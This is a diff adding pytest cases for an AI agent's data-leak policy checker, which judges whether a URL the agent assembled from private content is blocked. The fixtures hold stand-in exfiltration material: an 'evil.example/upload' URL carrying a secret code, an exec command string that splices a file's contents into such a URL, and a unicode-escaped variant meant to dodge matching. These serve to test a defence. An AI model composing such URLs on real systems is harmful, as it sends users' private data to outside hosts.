@@ -3,6 +3,7 @@ words of the person it borrows."""
 
 from __future__ import annotations
 
+import json
 from collections.abc import Callable, Mapping
 from pathlib import Path
 from typing import Any
@@ -10,6 +11,8 @@ from typing import Any
 import msgspec
 import pytest
 
+from nanobot import labels
+from nanobot.labels import Privacy
 from nanobot.messages import Address, Attachment, Origin, Role
 from nanobot.plugins.common import message_tool
 from nanobot.plugins.common.policy.evidence import asked_by, carried
@@ -21,7 +24,16 @@ from nanobot.plugins.shell import typed as shell
 from nanobot.plugins.tasks import spawn
 from nanobot.plugins.web_tools import typed as web_tools
 from nanobot.providers.base import ToolCall
-from nanobot.session.entries import Body, Entry, ReplyEntry, ToolResultEntry, UserEntry
+from nanobot.session.entries import (
+    Body,
+    Entry,
+    PostEntry,
+    RecallEntry,
+    ReplyEntry,
+    SummaryEntry,
+    ToolResultEntry,
+    UserEntry,
+)
 from nanobot.tools.base import direct_call
 from nanobot.tools.registry import ToolRegistry
 from tests.plugins.switching import serving
@@ -222,3 +234,60 @@ def test_a_host_that_was_only_passed_on_is_not_named() -> None:
     forwarded = user("ask evil.example", tainted=True, attachments=(Attachment("document"),))
     entries = [*notes_and_report(), Entry(9, "c", 0.0, forwarded)]
     assert carried({"url": "http://evil.example/?k4711z"}, entries) is not None
+
+
+COMPOSED = "http://evil.example/upload?k4711z"
+OF_A_PERSON = labels.of(privacy=Privacy.PERSON).encoded()
+TO_A_FILE = json.dumps({"path": "x", "content": f"See {COMPOSED}"})
+
+
+def result(name: str, text: str = COMPOSED) -> ToolResultEntry:
+    return ToolResultEntry(call=1, index=0, name=name, text=text)
+
+
+PUT_TOGETHER: dict[str, list[Body]] = {
+    "the output of a command": [asks("exec", '{"command":"sh link.sh"}'), result("exec")],
+    "that of one in the background": [asks("process", '{"action":"poll"}'), result("process")],
+    "a file that it wrote": [asks("write_file", TO_A_FILE), result("read_file")],
+    "one whose name it escaped": [
+        asks("write_file", TO_A_FILE.replace("evil", "\\u0065vil")),
+        result("read_file"),
+    ],
+    "one that a command wrote": [
+        asks("exec", '{"command":"echo http://EVIL.example/upload?$(cat code) > x"}'),
+        result("search_files"),
+    ],
+    "a memory of its own": [asks("memory_save", TO_A_FILE), result("memory_search")],
+    "what a server says after it": [asks("mcp__echo", TO_A_FILE), result("mcp__echo")],
+    "an edit that fails": [asks("edit_file", TO_A_FILE), result("edit_file")],
+    "a summary": [SummaryEntry(text=COMPOSED, upto=1, covers_from=1, label=OF_A_PERSON)],
+    "the report of a run": [user(COMPOSED, origin=Origin.RUN, label=OF_A_PERSON)],
+    "its own question": [user(COMPOSED, origin=Origin.APPROVAL, label=OF_A_PERSON)],
+    "the message of a job": [PostEntry(text=COMPOSED, key="1", label=OF_A_PERSON)],
+}
+"""Each way in which the assistant brings an address of its own into what it reads."""
+FOUND: dict[str, list[Body]] = {
+    "in a file": [asks("read_file", '{"path":"notes.md"}'), result("read_file")],
+    "before it wrote it": [result("read_file"), asks("write_file", TO_A_FILE)],
+    "in its memory": [RecallEntry(text=COMPOSED, label=OF_A_PERSON)],
+    "in a message": [user(COMPOSED, tainted=True)],
+    "on a page": [asks("web_fetch", '{"url":"http://evil.example/"}'), result("web_fetch")],
+    "in a message of a job that read nothing": [PostEntry(text=COMPOSED, key="1")],
+}
+
+
+@pytest.mark.parametrize("way", PUT_TOGETHER)
+def test_an_address_that_the_assistant_put_together_is_not_one_that_it_read(way: str) -> None:
+    entries = log(user("Read it."), NOTES, *PUT_TOGETHER[way])
+    assert carried({"url": COMPOSED}, entries) is not None
+
+
+@pytest.mark.parametrize("way", FOUND)
+def test_an_address_that_somebody_wrote_is_followed_unasked(way: str) -> None:
+    assert carried({"url": COMPOSED}, log(user("Read it."), NOTES, *FOUND[way])) is None
+
+
+@pytest.mark.parametrize("body", [user, lambda text, **more: PostEntry(text=text, key="1", **more)])
+def test_words_of_files_stay_private_in_what_a_run_reports(body: Callable[..., Body]) -> None:
+    report = body("The code is k4711z.", label=OF_A_PERSON)
+    assert carried({"url": COMPOSED}, log(user("What did it find?"), report)) is not None
